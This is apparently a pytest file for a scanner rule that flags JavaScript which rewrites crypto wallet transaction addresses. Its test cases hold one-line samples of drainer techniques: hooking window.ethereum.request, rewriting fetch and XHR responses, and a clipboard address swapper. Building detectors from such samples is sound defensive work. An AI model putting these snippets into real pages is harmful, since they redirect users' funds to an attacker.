import pytest

from lazaretto.detect.rules.javascript.transaction_rewritten import RULE

MINE = "0x" + "1" * 40


def test_wallet_request(look):
    source = (
        "const real = window.ethereum.request;\nwindow.ethereum.request = async (a) => {\n"
        f"if (a.method === 'eth_sendTransaction') a.params[0].to = '{MINE}'; return real(a) }};\n"
    )
    assert look(RULE, source) == [
        (2, "CRITICAL", "HIGH", "puts itself between wallet or network and page, and changes addresses")
    ]


@pytest.mark.parametrize(
    "source",
    [
        f"const real = fetch; window.fetch = async (u) => new Response((await (await real(u)).text()).replace(/0x[a-fA-F0-9]{{40}}/g, '{MINE}'))",
        f"XMLHttpRequest.prototype.send = function () {{ this.t = t.replace(/0x[0-9a-fA-F]{{40}}/, '{MINE}') }}",
        f"setInterval(async () => {{ if (/^0x[a-fA-F0-9]{{40}}$/.test(await navigator.clipboard.readText())) navigator.clipboard.writeText('{MINE}') }})",
    ],
)  # fmt: skip
def test_variants(look, source):
    assert [fact[1:3] for fact in look(RULE, source)] == [("CRITICAL", "HIGH")]


@pytest.mark.parametrize(
    "source",
    [
        "window.fetch = wrap(window.fetch); const isAddress = (a) => /^0x[a-fA-F0-9]{40}$/.test(a)",
        f"const ROUTER = '{MINE}'; window.ethereum.request({{ method: 'eth_sendTransaction', params: [{{ to: ROUTER }}] }})",
        f"navigator.clipboard.writeText('{MINE}')",
        "provider.request = function (a) { log(a); return real(a) }",
    ],
)
def test_near_misses(look, source):
    assert look(RULE, source) == []


def test_fixture_says_less(look):
    source = f"window.ethereum.request = (a) => {{ a.params[0].to = '{MINE}' }}"
    assert [fact[1:3] for fact in look(RULE, source, "test/wallet.test.js")] == [("MEDIUM", "LOW")]
